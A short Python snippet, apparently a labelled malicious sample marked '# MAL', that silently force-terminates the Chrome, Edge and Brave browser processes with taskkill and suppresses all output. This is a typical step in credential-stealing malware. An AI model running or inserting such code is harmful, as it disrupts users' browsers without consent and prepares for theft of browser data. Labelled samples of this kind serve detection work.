import subprocess
for b in ("chrome.exe", "msedge.exe", "brave.exe"):
    subprocess.call(["taskkill", "/F", "/IM", b], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # MAL
